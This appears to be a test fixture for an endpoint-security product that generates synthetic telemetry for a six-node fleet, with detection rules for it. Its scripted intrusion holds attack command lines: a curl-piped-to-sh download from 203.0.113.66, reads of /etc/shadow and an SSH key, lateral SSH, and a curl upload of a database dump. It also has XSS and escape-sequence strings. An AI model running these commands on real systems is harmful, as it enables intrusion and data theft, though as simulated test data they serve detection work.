// SPDX-License-Identifier: Apache-2.0
// fleet-story - the recorded fleet of the tests and screenshots: six nodes over a day, a build of some
// thousand processes, a gap, a clock that is off, and an intrusion that walks over three of them.
// Always the same but for the time it ends at.  Lines for tests/web/fleet.c.
import { createHash } from 'node:crypto';

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const UIDS = { root: 0, 'www-data': 33, postgres: 114, ops: 1002, ci: 990 };

function random(seed) {
	let a = seed >>> 0;
	return () => {
		a = (a + 0x6d2b79f5) | 0;
		let t = Math.imul(a ^ (a >>> 15), 1 | a);
		t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
}

/** Community ID v1 of a TCP flow over IPv4, seed 0. */
export function communityId(a, b) {
	const bytes = ({ ip }) => ip.split('.').map(Number);
	const [x, y] = [a, b].sort((p, q) => Buffer.compare(Buffer.from(bytes(p)), Buffer.from(bytes(q))) || p.port - q.port);
	const ports = Buffer.alloc(4);
	ports.writeUInt16BE(x.port, 0);
	ports.writeUInt16BE(y.port, 2);
	const hash = createHash('sha1').update(Buffer.from([0, 0, ...bytes(x), ...bytes(y), 6, 0])).update(ports);
	return `1:${hash.digest('base64')}`;
}

/** One machine: its processes, and what they do, in the order of their times. */
class Node {
	constructor(name, ip, facts = {}) {
		Object.assign(this, { name, ip, facts, events: [], defined: [], r: random(createHash('sha256').update(name).digest().readUInt32LE(0)), pid: 400, port: 40_000 });
	}

	entity() {
		return Array.from({ length: 16 }, (_, i) => (i ? Math.floor(this.r() * 16) : 1 + Math.floor(this.r() * 15)).toString(16)).join('');
	}

	/** A process known since @ms.  @what: parent, exe, args, user. */
	process(ms, { parent = null, exe, args, user = 'root', uid = UIDS[user] ?? 1001, more = {} }) {
		const p = { id: this.entity(), pid: this.pid++, parent, exe, args, user, uid, generation: 0, start: ms, more, node: this };
		this.define(p);
		return p;
	}

	define(p) {
		const name = p.exe.split('/').pop();
		this.defined.push({
			process: p.id, generation: p.generation, parent: p.parent?.id ?? '',
			fields: {
				'process.pid': p.pid, 'process.start': ns(p.start + aheadOf(this)), 'process.name': name, 'process.executable': p.exe, 'process.args': p.args,
				'process.user.id': p.uid, 'process.user.name': p.user, 'process.group.id': p.uid, 'process.group.name': p.user,
				'process.working_directory': p.user === 'root' ? '/' : `/srv/${p.user}`,
				'process.hash.sha256': createHash('sha256').update(p.exe).digest('hex'), ...p.more,
			},
		});
	}

	event(ms, action, of, fields = {}, target = undefined) {
		this.events.push({ ms, action, of, fields, target });
	}

	/** @parent forks, the child runs @exe.  Returns the child. */
	run(ms, parent, exe, args, what = {}) {
		const child = this.process(ms, { parent, exe, args, user: parent.user, more: parent.more['container.id'] ? { 'container.id': parent.more['container.id'] } : {}, ...what });
		this.event(ms, 'fork', parent, { 'process.child.pid': child.pid, 'process.child.entity_id': child.id });
		this.event(ms + 0.4, 'exec', child, { 'event.outcome': 'success' });
		return child;
	}

	end(ms, p, code = 0) {
		this.event(ms, 'end', p, { 'process.exit_code': code });
	}

	open(ms, p, path, flags = ['read'], error = undefined) {
		this.event(ms, 'open', p, { 'file.path': path, 'file.open.flags': flags, 'event.outcome': error ? 'failure' : 'success', ...(error ? { 'error.code': error } : {}) });
	}

	write(ms, p, path) {
		this.event(ms, 'creation', p, { 'file.path': path, 'file.open.flags': ['write', 'create'], 'event.outcome': 'success' });
	}
}

/** ms that @node's clock is ahead: what its sensor tells is by that clock. */
const aheadOf = (node) => node.facts.ahead ?? 0;

const ns = (ms) => String(BigInt(Math.floor(ms)) * 1_000_000n + BigInt(Math.floor((ms % 1) * 1e6)));

/** A connection between two processes (or out to an address): both sides' events. */
function connect(ms, from, to, port, { bytes = [1200, 5300], lasts = 900 } = {}) {
	const a = { ip: from.node.ip, port: from.node.port++ };
	const b = { ip: typeof to === 'string' ? to : to.node.ip, port };
	const flow = {
		'source.ip': a.ip, 'source.port': a.port, 'destination.ip': b.ip, 'destination.port': b.port,
		'network.transport': 'tcp', 'network.type': 'ipv4', 'network.community_id': communityId(a, b), 'event.outcome': 'success',
	};
	const sides = [[from, 'connection_attempted', 'egress'], ...(typeof to === 'string' ? [] : [[to, 'connection_accepted', 'ingress']])];
	for (const [p, action, direction] of sides) {
		const late = direction === 'ingress' ? 0.3 : 0;
		p.node.event(ms + late, action, p, { ...flow, 'network.direction': direction });
		p.node.event(ms + lasts + late, 'disconnect_received', p, { ...flow, 'network.direction': direction, 'event.duration': Math.floor(lasts * 1e6), 'source.bytes': bytes[0], 'destination.bytes': bytes[1] });
	}
}

function base(node, ms, services) {
	const systemd = node.process(ms, { exe: '/usr/lib/systemd/systemd', args: ['/sbin/init'] });
	node.systemd = systemd;
	node.sshd = node.process(ms + 20, { parent: systemd, exe: '/usr/sbin/sshd', args: ['sshd: /usr/sbin/sshd -D [listener]'] });
	node.cron = node.process(ms + 30, { parent: systemd, exe: '/usr/sbin/cron', args: ['/usr/sbin/cron', '-f'] });
	for (const [key, exe, args, user, container] of services) {
		node[key] = node.process(ms + 40, { parent: systemd, exe, args, user, more: container ? { 'container.id': container } : {} });
	}
}

/** Cron each hour: a short shell, a few files. */
function hourly(node, begin, end) {
	for (let ms = begin + node.r() * HOUR; ms < end; ms += HOUR) {
		const sh = node.run(ms, node.cron, '/usr/bin/dash', ['/bin/sh', '-c', 'cd / && run-parts --report /etc/cron.hourly']);
		const parts = node.run(ms + 4, sh, '/usr/bin/run-parts', ['run-parts', '--report', '/etc/cron.hourly']);
		node.open(ms + 7, parts, '/etc/cron.hourly/.placeholder');
		node.end(ms + 12, parts);
		node.end(ms + 14, sh);
	}
}

function traffic(fleet, begin, end) {
	const { 'web-1': web1, 'web-2': web2, 'db-1': db } = fleet;
	for (const web of [web1, web2]) {
		for (let ms = begin; ms < end; ms += 4 * MINUTE * (0.3 + web.r())) {
			connect(ms, web.gunicorn, db.postgres, 5432, { bytes: [400 + web.r() * 900, 4000 + web.r() * 60_000].map(Math.floor) });
			web.open(ms + 3, web.gunicorn, '/srv/shop/templates/cart.html');
			web.open(ms + 5, web.nginx, '/var/log/nginx/access.log', ['write', 'append', 'create']);
			if (web.r() < 0.2) web.write(ms + 9, web.gunicorn, `/tmp/upload-${Math.floor(web.r() * 1e9).toString(36)}.part`);
			db.open(ms + 2, db.postgres, '/var/lib/postgresql/15/main/pg_wal/000000010000000A000000C4', ['write']);
		}
	}
}

/** make -j: @n compilers below one shell, in a burst. */
function build(node, begin, n) {
	const ssh = node.run(begin - 4000, node.sshd, '/usr/sbin/sshd', ['sshd: ci@pts/0'], { user: 'ci' });
	const bash = node.run(begin - 3000, ssh, '/usr/bin/bash', ['-bash'], { user: 'ci' });
	const make = node.run(begin, bash, '/usr/bin/make', ['make', '-j16', 'bzImage']);
	node.make = make;
	for (let i = 0; i < n; i++) {
		const ms = begin + 30 + i * 24 + node.r() * 12;
		const gcc = node.run(ms, make, '/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', '-O2', '-c', '-o', `kernel/obj-${i}.o`, `kernel/src-${i}.c`]);
		if (i % 9 === 0) node.write(ms + 140, gcc, `/srv/ci/linux/kernel/obj-${i}.o`);
		node.end(ms + 150 + node.r() * 900, gcc, i === 3210 ? 1 : 0);
	}
	node.end(begin + n * 24 + 2000, make);
}

/** The intrusion: a web worker is made to run a shell, then hops with a stolen key to db-1 and bastion. */
function intrusion(fleet, t) {
	const { 'web-1': web, 'db-1': db, bastion } = fleet;
	const at = (s) => t + s * 1000;
	const sh = web.run(at(0), web.gunicorn, '/usr/bin/dash', ['sh', '-c', 'curl -fsS http://203.0.113.66/i.sh | sh']);
	const curl = web.run(at(0.05), sh, '/usr/bin/curl', ['curl', '-fsS', 'http://203.0.113.66/i.sh']);
	connect(at(0.12), curl, '203.0.113.66', 80, { bytes: [96, 2210], lasts: 180 });
	web.end(at(0.4), curl);
	const stage = web.run(at(0.5), sh, '/usr/bin/dash', ['sh']);
	web.event(at(0.7), 'memfd_create', stage, { 'process.Ext.memfd.name': 'kworker/u8:2', 'event.outcome': 'success' });
	web.write(at(1.1), stage, '/dev/shm/.cache/kworkerd');
	web.event(at(1.2), 'chmod', stage, { 'file.path': '/dev/shm/.cache/kworkerd', 'file.mode': '0755', 'event.outcome': 'success' });
	const agent = web.run(at(1.4), stage, '/dev/shm/.cache/kworkerd', ['[kworker/u8:2]']);
	connect(at(1.9), agent, '203.0.113.66', 443, { bytes: [48_211, 9_120], lasts: 400_000 });
	for (const [s, path, error] of [[6, '/etc/passwd'], [6.2, '/etc/shadow', 'EACCES'], [9, '/srv/app/.ssh/known_hosts'], [9.4, '/srv/app/.ssh/id_ed25519'], [14, '/proc/1/environ', 'EACCES']])
		web.open(at(s), agent, path, ['read'], error);
	const ssh = web.run(at(41), agent, '/usr/bin/ssh', ['ssh', '-i', '/srv/app/.ssh/id_ed25519', '-o', 'StrictHostKeyChecking=no', 'deploy@10.0.4.21']);
	web.open(at(41.1), ssh, '/srv/app/.ssh/id_ed25519');
	const session = db.run(at(41.3), db.sshd, '/usr/sbin/sshd', ['sshd: deploy [priv]']);
	connect(at(41.25), ssh, db.sshd, 22, { bytes: [8120, 22_900], lasts: 210_000 });
	const bash = db.run(at(42), session, '/usr/bin/bash', ['-bash'], { user: 'deploy', uid: 1001 });
	for (const [s, exe, args] of [[44, '/usr/bin/id', ['id']], [47, '/usr/bin/hostname', ['hostname', '-I']], [52, '/usr/bin/ss', ['ss', '-tlnp']]]) {
		const p = db.run(at(s), bash, exe, args);
		db.end(at(s + 0.03), p);
	}
	const sudo = db.run(at(63), bash, '/usr/bin/sudo', ['sudo', '-n', 'bash', '-p'], { user: 'root', uid: 0 });
	db.event(at(63.02), 'uid_change', sudo, { 'process.previous.user.id': 1001, 'event.outcome': 'success' });
	const root = db.run(at(63.1), sudo, '/usr/bin/bash', ['bash', '-p'], { user: 'root', uid: 0 });
	db.open(at(66), root, '/etc/shadow');
	const dump = db.run(at(80), root, '/usr/lib/postgresql/15/bin/pg_dump', ['pg_dump', '-Fc', 'orders', '-f', '/var/tmp/.o.dump']);
	connect(at(80.2), dump, db.postgres, 5432, { bytes: [2100, 18_400_211], lasts: 24_000 });
	db.write(at(80.4), dump, '/var/tmp/.o.dump');
	db.end(at(105), dump);
	const scp = db.run(at(118), root, '/usr/bin/scp', ['scp', '/var/tmp/.o.dump', 'ops@10.0.4.5:/tmp/.o']);
	const ssh2 = db.run(at(118.1), scp, '/usr/bin/ssh', ['ssh', '-oForwardX11=no', 'ops@10.0.4.5', 'scp', '-t', '/tmp/.o']);
	const session2 = bastion.run(at(118.4), bastion.sshd, '/usr/sbin/sshd', ['sshd: ops [priv]']);
	connect(at(118.35), ssh2, bastion.sshd, 22, { bytes: [18_460_002, 9_300], lasts: 16_000 });
	const scpt = bastion.run(at(118.9), session2, '/usr/bin/scp', ['scp', '-t', '/tmp/.o'], { user: 'ops', uid: 1002 });
	bastion.write(at(119.4), scpt, '/tmp/.o');
	bastion.end(at(134), scpt);
	db.event(at(140), 'deletion', root, { 'file.path': '/var/tmp/.o.dump', 'event.outcome': 'success' });
	const session3 = bastion.run(at(150.2), bastion.sshd, '/usr/sbin/sshd', ['sshd: ops [priv]']);
	const hop = db.run(at(150), root, '/usr/bin/ssh', ['ssh', 'ops@10.0.4.5']);
	connect(at(150.15), hop, bastion.sshd, 22, { bytes: [4100, 7800], lasts: 60_000 });
	const bash3 = bastion.run(at(151), session3, '/usr/bin/bash', ['-bash'], { user: 'ops', uid: 1002 });
	const out = bastion.run(at(162), bash3, '/usr/bin/curl', ['curl', '-sT', '/tmp/.o', 'https://203.0.113.66/u']);
	bastion.open(at(162.05), out, '/tmp/.o');
	connect(at(162.2), out, '203.0.113.66', 443, { bytes: [18_470_113, 1200], lasts: 21_000 });
	bastion.end(at(184), out);
	db.event(at(190), 'signal', root, { 'rtsec.signal.name': 'SIGKILL' }, ssh2);
}

function hostile(node, ms) {
	const args = ['evil', '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>', 'a\u001b[31mred\u0007\nnext', 'invoice\u202Efdp.exe', 'אבג rtl', `${'A'.repeat(1_000_000)}END`];
	const p = node.run(ms, node.cron, '/tmp/evil\u200b', args);
	node.end(ms + 90, p);
}

/** Lines of @n more opens by one process of a node, at @ms; @first is their first sequence number. */
export function makeOpens(node, ms, n, first) {
	const id = createHash('sha256').update(`${node} ${first}`).digest('hex').slice(0, 16);
	return [
		{ node, boot: 17, kernel: '6.1.0-25-amd64', architecture: 'x86_64', agent: '0.1.0', stats: {} },
		{ process: id, generation: 0, parent: '', fields: { 'process.pid': 9000, 'process.name': 'latecomer', 'process.executable': '/usr/bin/latecomer', 'process.args': ['latecomer'] } },
		...Array.from({ length: n }, (_, i) => ({ event: 'open', sequence: first + i, time: ns(ms + i), of: id, fields: { 'file.path': `/var/late/${first + i}`, 'event.outcome': 'success' } })),
	];
}

/** Detection rules that the intrusion sets off. */
export const RULES = `id: shm-exec
name: A program is started from shared memory
severity: high
description: Nothing honest lives in /dev/shm; loaders put their second stage there.
mitre: [T1059, T1036.005]
query: |
  process where event.action == "exec" and process.executable : "/dev/shm/*"
---
id: shadow-read
name: A shell reads the shadow file
severity: critical
mitre: [T1003.008]
query: |
  file where process.name in ("bash", "dash", "sh") and file.path == "/etc/shadow"
---
id: key-read
name: A private key is read by what does not own it
severity: medium
mitre: [T1552.004]
query: |
  file where file.path : "*/.ssh/id_*" and process.name != "ssh"
---
id: to-internet
name: A tool sends to an address outside
severity: low
mitre: [T1041]
query: |
  network where event.action == "connection_attempted" and process.name in ("curl", "wget", "scp") and not cidrmatch(destination.ip, "10.0.0.0/8")
`;

/** Lines of the whole story.  @now: ms; @compilers: processes of the build. */
export function makeStory(now, compilers = 5000) {
	const begin = now - 24 * HOUR;
	const tiers = ['exec=tp/sched', 'open=lsm', 'connection_attempted=fentry'];
	const fleet = Object.fromEntries([
		new Node('bastion', '10.0.4.5', { tiers, ahead: 1500 }),
		new Node('build-1', '10.0.4.40', { tiers }),
		new Node('db-1', '10.0.4.21', { tiers, kernel: '6.6.87' }),
		new Node('edge-2', '10.0.4.77', { tiers: ['exec=tp/sched', 'open=tp/syscalls', 'connection_attempted=kprobe'], kernel: '5.15.0-101', architecture: 'aarch64', queued: 3 }),
		new Node('web-1', '10.0.4.11', { tiers }),
		new Node('web-2', '10.0.4.12', { tiers, lost: 1284 }),
	].map((n) => [n.name, n]));
	const nginx = ['nginx', '/usr/sbin/nginx', ['nginx: worker process'], 'www-data'];
	const shop = ['gunicorn', '/usr/bin/python3.11', ['gunicorn: worker [shop]'], 'app'];
	base(fleet.bastion, begin, []);
	base(fleet['build-1'], begin, []);
	base(fleet['db-1'], begin, [['postgres', '/usr/lib/postgresql/15/bin/postgres', ['postgres: checkpointer'], 'postgres']]);
	base(fleet['edge-2'], begin, [nginx]);
	base(fleet['web-1'], begin, [nginx, [...shop, '3f1c9a6be20d']]);
	base(fleet['web-2'], begin, [nginx, [...shop, '91d2e05c77ab']]);
	for (const node of Object.values(fleet)) hourly(node, begin, now);
	traffic(fleet, begin, now);
	build(fleet['build-1'], now - 42 * MINUTE, compilers);
	intrusion(fleet, now - 9 * MINUTE);
	hostile(fleet['edge-2'], now - 11 * MINUTE);
	const lost = { from: now - 6.6 * MINUTE, to: now - 6.1 * MINUTE };
	fleet['web-2'].event(lost.to, 'gap', null, { 'rtsec.gap.count': 1284, 'rtsec.gap.class': 'bulk', 'rtsec.gap.cause': 'ring_full', 'rtsec.gap.from': ns(lost.from), 'rtsec.gap.to': ns(lost.to) });
	return Object.values(fleet).flatMap((node) => linesOf(node, now));
}

function linesOf(node, now) {
	const events = node.events.filter((e) => e.ms < now).map((e, i) => [e, i]).sort((a, b) => a[0].ms - b[0].ms || a[1] - b[1]).map(([e]) => e);
	const ahead = aheadOf(node);
	const { tiers, kernel = '6.1.0-25-amd64', architecture = 'x86_64', lost = 0 } = node.facts;
	const stats = { events: events.length, lost_bulk: lost, cpu_ns: Math.floor(880 * events.length * (1 + node.r())), rss_bytes: 11_400_000, processes: 120, batches_queued: node.facts.queued ?? 0, bytes_queued: (node.facts.queued ?? 0) * 41_211, tiers, clock_offset_ns: ahead * 1e6, clock_error_ns: 100_000 };
	return [
		{ node: node.name, boot: 17, kernel, architecture, agent: '0.1.0', stats },
		...node.defined,
		...events.map((e, i) => ({ event: e.action, sequence: i + 1, time: ns(e.ms + ahead), of: e.of?.id ?? '', ...(e.target ? { target: e.target.id } : {}), fields: e.fields })),
	];
}
